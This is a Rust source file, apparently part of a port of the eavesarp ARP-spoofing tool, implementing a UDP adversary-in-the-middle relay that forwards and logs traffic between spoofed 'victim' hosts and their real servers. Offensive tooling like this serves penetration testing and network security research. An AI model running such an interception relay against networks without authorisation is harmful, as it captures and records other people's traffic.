//! The UDP half of the AITM relay (spec.md §4.9). No session state is
//! retained between datagrams — DESIGN NOTES' Open Question on UDP
//! session affinity: the source does not pool sockets either, so this
//! preserves that behaviour and a fresh downstream socket is dialed per
//! datagram.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use tokio::net::UdpSocket;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

use eavesarp_attack::ConnectionMap;
use eavesarp_core::addr::{AddrTriple, Transport};

use crate::datalog::{AddressDuo, DataLogSink, LogContext, Sender as LogSender, VictimAddress};
use crate::error::{Error, Result};

const LOOKUP_RETRIES: u32 = 5;
const LOOKUP_RETRY_DELAY: Duration = Duration::from_millis(5);
const RESPONSE_DEADLINE: Duration = Duration::from_secs(5);
const MAX_RESPONSE: usize = 2048;
const MAX_DATAGRAM: usize = 65535;

pub struct UdpProxy {
    listen_addr: SocketAddr,
    proxy_addr: AddressDuo,
    conn_map: ConnectionMap,
    datalog: Arc<DataLogSink>,
}

impl UdpProxy {
    pub fn new(listen_addr: SocketAddr, conn_map: ConnectionMap, datalog: Arc<DataLogSink>) -> Self {
        let proxy_addr = AddressDuo {
            ip: match listen_addr.ip() {
                IpAddr::V4(v) => v,
                IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
            },
            port: listen_addr.port(),
            transport: Transport::Udp,
        };
        Self {
            listen_addr,
            proxy_addr,
            conn_map,
            datalog,
        }
    }

    pub async fn run(self: Arc<Self>, cancel: CancellationToken) -> Result<()> {
        let socket = Arc::new(UdpSocket::bind(self.listen_addr).await?);
        info!(addr = %self.listen_addr, "udp proxy listening");
        let mut buf = vec![0u8; MAX_DATAGRAM];
        loop {
            let (n, victim_addr) = tokio::select! {
                _ = cancel.cancelled() => break,
                recvd = socket.recv_from(&mut buf) => match recvd {
                    Ok(v) => v,
                    Err(e) => { warn!(error = %e, "udp recv failed"); continue; }
                },
            };
            let datagram = buf[..n].to_vec();
            let this = Arc::clone(&self);
            let socket = Arc::clone(&socket);
            tokio::spawn(async move {
                if let Err(e) = this.handle_datagram(socket, victim_addr, datagram).await {
                    debug!(error = %e, victim = %victim_addr, "udp datagram handling failed");
                }
            });
        }
        Ok(())
    }

    async fn handle_datagram(&self, socket: Arc<UdpSocket>, victim_addr: SocketAddr, data: Vec<u8>) -> Result<()> {
        let victim_ip = match victim_addr.ip() {
            IpAddr::V4(v) => v,
            IpAddr::V6(_) => return Err(Error::Config("ipv6 peer unsupported".into())),
        };
        let victim = AddrTriple::new(victim_ip, victim_addr.port(), Transport::Udp);

        let downstream = self.lookup_downstream(&victim).await?;

        let ctx = LogContext {
            victim_address: VictimAddress {
                ip: victim_ip,
                src_port: victim_addr.port(),
                dst_port: self.listen_addr.port(),
                transport: Transport::Udp,
            },
            spoofed_address: AddressDuo {
                ip: downstream.ip,
                port: downstream.port,
                transport: Transport::Udp,
            },
            proxy_address: self.proxy_addr,
            downstream_address: Some(AddressDuo {
                ip: downstream.ip,
                port: downstream.port,
                transport: Transport::Udp,
            }),
            transport: Transport::Udp,
        };
        self.datalog.log(LogSender::Victim, ctx, &data);

        let downstream_sock = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).await?;
        downstream_sock.connect((downstream.ip, downstream.port)).await?;
        downstream_sock.send(&data).await?;

        let mut response = vec![0u8; MAX_RESPONSE];
        let n = match tokio::time::timeout(RESPONSE_DEADLINE, downstream_sock.recv(&mut response)).await {
            Ok(Ok(n)) => n,
            Ok(Err(e)) => return Err(Error::Io(e)),
            Err(_) => {
                debug!(downstream = ?downstream, "udp downstream response deadline exceeded");
                return Ok(());
            }
        };

        self.datalog.log(LogSender::Downstream, ctx, &response[..n]);
        socket.send_to(&response[..n], victim_addr).await?;
        Ok(())
    }

    async fn lookup_downstream(&self, victim: &AddrTriple) -> Result<AddrTriple> {
        for attempt in 0..=LOOKUP_RETRIES {
            if let Some(downstream) = self.conn_map.downstream_for(victim) {
                return Ok(downstream);
            }
            if attempt < LOOKUP_RETRIES {
                tokio::time::sleep(LOOKUP_RETRY_DELAY).await;
            }
        }
        Err(Error::NoDownstreamForVictim(victim.to_string()))
    }
}
